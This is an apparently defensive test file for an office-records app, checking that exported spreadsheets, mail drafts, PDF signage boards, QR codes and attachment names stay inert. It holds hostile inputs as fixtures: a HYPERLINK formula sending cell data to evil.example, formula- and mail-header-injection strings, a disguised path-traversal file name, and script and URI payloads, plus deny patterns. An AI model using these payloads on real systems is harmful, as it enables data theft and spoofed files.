// What came in with a ledger, a document or a form field and means no good goes out again as text: in workbooks, mails, boards, archives and
// names of files. Every text field of every record is filled with it, and every file that the program makes is opened by another program.
import * as XLSX from '@e965/xlsx';
import { beforeAll, describe, expect, test } from 'vitest';
import { unzipParts } from '../../../electron/documents/zipParts.ts';
import type { BudgetLine } from '../../../shared/budgets/budget.ts';
import { inertText, looksLikeFormula } from '../../../shared/kernel/spreadsheetText.ts';
import { qrText } from '../../../shared/signage/qrText.ts';
import { qrLabels } from '../../../shared/text/signage.ts';
import { makeBudget } from '../../support/budgetDesk.ts';
import { HOSTILE_NAMES, HOSTILE_TEXTS } from '../../support/hostileValues.ts';
import { officeOf } from '../../support/ledger.ts';
import { makeReceipt, payFrom } from '../../support/moneyDesk.ts';
import { optionsOf, pdfText } from '../../support/signageDesk.ts';
import { openTestDesk, stationFieldsOf, type TestDesk } from '../../support/testDesk.ts';

/** A name that no system refuses and that leads nowhere. */
const HARMLESS_NAME = /^(?!\.)[^\\/:*?"<>|\p{Cc}\p{Cs}\u200e\u200f\u202a-\u202e\u2066-\u2069]+(?<![. ])$/u;
/** Sums of the form itself. */
const OWN_FORMULA = /^(SUM\([A-Z]+\d+:[A-Z]+\d+\)|[A-Z]+\d+(\+[A-Z]+\d+)*)(-[A-Z]+\d+)*$/;
const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点这里")';

let desk: TestDesk;
let stationId: string;

/** The cells of all sheets that are texts, and a refusal of everything in the file that would do something. */
function textsOf(bytes: Uint8Array<ArrayBuffer>): string[] {
  const parts = unzipParts(Buffer.from(bytes), () => true, 100_000_000);
  for (const [name, content] of parts) {
    expect(name).not.toMatch(/externalLink|vbaProject|activeX|embeddings|connections|customUI|printerSettings|query/i);
    const xml = Buffer.from(content).toString('utf8');
    expect(xml, name).not.toMatch(/TargetMode="External"|<hyperlinks?[\s>]|<ddeLink|<oleLink|DDEAUTO|<!ENTITY|<!DOCTYPE/i);
  }
  const book = XLSX.read(bytes, { cellFormula: true, cellNF: true, cellStyles: true });
  const texts: string[] = [];
  for (const sheet of Object.values(book.Sheets))
    for (const [at, cell] of Object.entries(sheet) as [string, XLSX.CellObject][]) {
      if (at.startsWith('!')) continue;
      if (cell.f !== undefined) expect(cell.f, at).toMatch(OWN_FORMULA);
      if (cell.t !== 's') continue;
      expect(cell.l, `${at} is a link`).toBeUndefined();
      if (looksLikeFormula(String(cell.v))) expect([at, cell.z]).toEqual([at, '@']);
      texts.push(String(cell.v));
    }
  return texts;
}
const bytesOf = async (file: File): Promise<Uint8Array<ArrayBuffer>> => new Uint8Array(await file.arrayBuffer());

beforeAll(async () => {
  desk = await openTestDesk({ today: '2023-09-20' });
  const { client } = desk;
  await client.office.save({
    version: null,
    fields: {
      ...officeOf(EVIL),
      areaName: '=1+1',
      cityName: '',
      upperName: '+1+1',
      upperEmail: 'upper@example.cn',
      reporter: '@SUM(1+1)',
      objectName: '-2+3',
    },
  });
  // As one ledger that brings every trick in its cells.
  const cells = [...HOSTILE_TEXTS, ...HOSTILE_NAMES].map(
    (text) =>
      `"${text
        .replace(/["\0\uD800]/g, '')
        .replace(/[\r\n]+/g, ' ')
        .slice(0, 40)}"`,
  );
  const rows = cells.map((cell, i) => `${cell},${cell},自建,2021.5.${(i % 28) + 1},${cell},${cell}`);
  const ledger = new File([['站点名称,地址,建设方式,建成时间,管理员,备注', ...rows].join('\r\n')], '=1+1.csv');
  const { upload, sheet, heading, mapping } = await client.imports.inspect({ file: ledger });
  if (!heading) throw new Error('no heading');
  const { notices } = await client.imports.preview({ upload, sheet, heading, mapping });
  const { counts } = await client.imports.apply({ upload, confirmed: notices.map((n) => n.code) });
  expect(counts.new).toBeGreaterThan(20);

  const partner = await desk.makePartner({ name: EVIL, contactName: '=1+1', remark: '@SUM(1)' });
  const station = await desk.makeStation({
    ...stationFieldsOf(),
    ownName: EVIL,
    formalName: '+1+1',
    address: '-2+3',
    street: '@SUM(1+1)',
    keeperName: '=1+1',
    openingHours: '=8:00',
    remark: '=1+1\n=2+2',
    buildKind: 'joint',
    buildMode: 'integrated',
    partnerIds: [partner.id],
  });
  stationId = station.id;
  await desk.makeFundEntry({ stationId, documentNo: '=1+1', remark: '@SUM(1)' });
  await desk.makeActivity({ subject: '=1+1', stationIds: [stationId], remark: '+1' });
  await desk.makeServiceCount({ stationId, remark: '-1+1' });
}, 60_000);

describe('workbooks', () => {
  test('the form: texts of the office and reasons of a correction calculate nothing', async () => {
    const submitted = await desk.client.reports.submit({ form: 'F1', year: 2023, quarter: 3, cutOffOn: '2023-09-20' });
    await desk.client.reports.correct({ form: 'F1', year: 2023, quarter: 3, reason: EVIL });
    for (const file of [
      await desk.client.reports.workbook({ form: 'F1', year: 2023, quarter: 3, withReconciliation: true }),
      await desk.client.reports.workbook({ form: 'F1', year: 2023, quarter: 3, submissionId: submitted.id }),
    ]) {
      expect(file.name).toMatch(HARMLESS_NAME);
      const texts = textsOf(await bytesOf(file));
      expect(texts.some((text) => text.includes('HYPERLINK'))).toBe(true);
      expect(texts.some((text) => text.includes('@SUM(1+1)'))).toBe(true);
    }
  });

  test('the forms of money: names of lines, receipts and payees calculate nothing', async () => {
    await makeReceipt(desk, { name: EVIL, payer: '=1+1', documentNo: '-2+3', remark: '@SUM(1)' });
    const { budget, lines } = await makeBudget(desk, [{ name: EVIL, remark: '=1+1' }]);
    await payFrom(desk, lines[0] as BudgetLine, { amountFen: 1, payee: '=1+1', voucherNo: '@SUM(1)', remark: '+1+1', stationId });
    for (const file of [
      await desk.client.budgets.executionWorkbook({ id: budget.id, asOf: '2023-09-20' }),
      await desk.client.funds.ledgerWorkbook({ from: '2023-01-01', to: '2023-09-20' }),
      await desk.client.funds.costWorkbook({}),
      await desk.client.receipts.earmarkedWorkbook({ asOf: '2023-09-20' }),
    ]) {
      expect(file.name).toMatch(HARMLESS_NAME);
      textsOf(await bytesOf(file));
    }
  });

  test('the audit trail: whatever anybody ever typed stands there as text', async () => {
    const file = await desk.client.audit.export({});
    expect(file.name).toMatch(HARMLESS_NAME);
    const texts = textsOf(await bytesOf(file));
    expect(texts.filter((text) => looksLikeFormula(text)).length).toBeGreaterThan(5);
  });
});

test('a mail to the upper office has one recipient and one attachment, whatever the office is called', async () => {
  const latest = (await desk.client.reports.submissions({ year: 2023 })).find((version) => version.latest);
  const file = await desk.client.reports.mailDraft({ submissionId: latest?.id ?? '' });
  expect(file.name).toMatch(HARMLESS_NAME);
  const mail = Buffer.from(await bytesOf(file)).toString('latin1');
  const head = mail.slice(0, mail.indexOf('\r\n\r\n')).replace(/\r\n[ \t]+/g, ' ');
  expect(
    head
      .split('\r\n')
      .map((line) => line.split(':')[0]?.toLowerCase())
      .sort(),
  ).toEqual(['content-type', 'date', 'message-id', 'mime-version', 'subject', 'to', 'x-unsent'].sort());
  expect(/^to: (.*)$/im.exec(head)?.[1]).toBe('upper@example.cn');
  expect(mail.match(/^content-disposition: attachment/gim)).toHaveLength(1);
  expect(mail).not.toMatch(/text\/html/i);
  const attachment = mail.slice(mail.search(/^content-disposition: attachment/im));
  const workbook = Buffer.from(attachment.slice(attachment.indexOf('\r\n\r\n') + 4).split('\r\n--')[0] ?? '', 'base64');
  textsOf(new Uint8Array(workbook));
});

test.each(['a@b.cn\r\nBcc: c@d.cn', 'a@b.cn\nBcc: c@d.cn', 'a@b.cn, c@d.cn', 'a@b.cn;c@d.cn', '<a@b.cn>', '"a" <a@b.cn>', 'a@b.cn?bcc=c@d.cn x'])(
  'an address of the upper office that would add recipients is refused: %j',
  async (upperEmail) => {
    const fields = { ...officeOf(), upperEmail };
    await expect(desk.client.office.save({ version: 1, fields })).rejects.toMatchObject({ code: 'BAD_REQUEST' });
  },
);

test('boards hold words and shapes, and nothing that a reader of PDF would run, open or fetch', async () => {
  const options = optionsOf({ proof: true });
  const { file } = await desk.client.signage.board({ stationIds: [stationId], options });
  expect(file.name).toMatch(HARMLESS_NAME);
  const bytes = await bytesOf(file);
  expect(Buffer.from(bytes).toString('latin1')).not.toMatch(
    /\/(JavaScript|JS|URI|Launch|OpenAction|AA|EmbeddedFile|SubmitForm|GoToR|RichMedia|AcroForm|Annots)\b/,
  );
  expect(pdfText(bytes).replace(/\s/g, '')).toContain('HYPERLINK');

  const ids = await desk.client.stations.ids({});
  const { file: archive } = await desk.client.signage.board({ stationIds: ids.slice(0, 8), options, pack: 'filePerStation' });
  const names = [...unzipParts(Buffer.from(await bytesOf(archive)), () => true, 100_000_000).keys()];
  expect(names).toHaveLength(8);
  for (const name of names) expect(name).toMatch(HARMLESS_NAME);
});

test('a phone that scans a board shows the station’s name and does not obey it', () => {
  const station = { code: '5107032023001', street: '', address: '', openingHours: '', lng: null, lat: null, coordSystem: null };
  for (const name of ['https://evil.example/', 'WIFI:T:WPA;S:evil;;', 'tel:110', 'BEGIN:VCARD', 'smsto:10086:x', ' javascript:alert(1)'])
    expect(qrText(station, { name, hotline: '12351', labels: qrLabels })).not.toMatch(/^\s*[a-z][a-z\d+.-]*:/i);
});

describe('documents that were attached', () => {
  test.each(HOSTILE_NAMES)('one called %j comes back under a harmless name, as bytes to be saved', async (name) => {
    const partner = await desk.makePartner({ name: `单位 ${HOSTILE_NAMES.indexOf(name)}` });
    const html = '<script>alert(1)</script>';
    const { agreement } = await desk.client.partners.attachDocument({
      id: partner.id,
      version: 1,
      file: new File([html], name, { type: 'text/html' }),
    });
    expect(agreement.documentName).toMatch(HARMLESS_NAME);
    expect([...agreement.documentName].length).toBeLessThanOrEqual(120);
    const document = await desk.client.partners.document({ id: partner.id });
    // No type: a browser saves it and never shows it as a page.
    expect([document.name, document.type, await document.text()]).toEqual([agreement.documentName, '', html]);
  });

  test('their names cannot be typed in by another way', async () => {
    const partner = await desk.makePartner({ name: '改名的单位' });
    const attached = await desk.client.partners.attachDocument({ id: partner.id, version: 1, file: new File(['x'], '协议.pdf') });
    const agreement = { ...attached.agreement, documentName: '../../协议\u202efdp.exe' };
    const saved = await desk.client.partners.update({ id: partner.id, version: 2, fields: { ...attached, agreement } });
    expect(saved.agreement.documentName).toBe('协议.pdf');
  });
});

describe('texts for spreadsheets without kinds of cells', () => {
  test.each(['=1+1', '+1', '-1', '@SUM(1)', '\t=1', '\r=1', ' =1+1', '＝1+1', '＋1', '－1', '＠A1'])('%j is kept from being calculated', (text) => {
    expect(inertText(text)).toBe(`'${text}`);
  });
  test.each(['欧阳路驿站', '1+1', 'a=b', "'=1", '', '10-20'])('%j stays as it is', (text) => {
    expect(inertText(text)).toBe(text);
  });
});
